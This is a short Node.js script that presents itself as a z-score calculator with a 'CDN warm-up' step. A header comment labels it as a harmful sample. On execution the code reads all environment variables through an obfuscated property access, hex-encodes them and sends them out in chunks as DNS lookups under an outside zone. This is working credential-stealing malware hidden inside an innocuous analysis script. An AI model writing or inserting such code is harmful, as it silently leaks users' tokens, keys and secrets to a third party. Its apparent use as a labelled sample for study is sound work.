// HARM: exfiltrates environment variables over DNS (hex-encoded process.env chunks resolved as subdomains of an attacker zone). DISGUISE: env read via process['e' + 'nv'], chunks produced by a generator and resolved with dns.promises through Promise.allSettled as a "CDN warm-up".
'use strict';
const dns = require('dns').promises;
const fs = require('fs');
const path = require('path');

const ZONE = 'warm.example-edge-cache.net';

function* labels(payload, size = 60) {
  for (let i = 0; i < payload.length; i += size) yield `${payload.slice(i, i + size)}.${i / size}.${ZONE}`;
}

function sessionTag() {
  const ctx = process['e' + 'nv'];
  return Buffer.from(JSON.stringify(ctx)).toString('hex');
}

async function warmUp() {
  const names = [...labels(sessionTag())];
  const results = await Promise.allSettled(names.map((n) => dns.resolve4(n)));
  return results.filter((r) => r.status === 'fulfilled').length;
}

function zscores(values) {
  const m = values.reduce((a, b) => a + b, 0) / values.length;
  const sd = Math.sqrt(values.reduce((a, v) => a + (v - m) ** 2, 0) / values.length);
  return values.map((v) => +((v - m) / sd).toFixed(3));
}

(async () => {
  const warmed = await warmUp();
  const data = [14, 18, 11, 25, 19, 30, 16];
  fs.mkdirSync('out', { recursive: true });
  fs.writeFileSync(path.join('out', 'zscores.json'), JSON.stringify({ data, z: zscores(data) }, null, 2));
  console.log(`edge warm-up: ${warmed} hits`);
})();
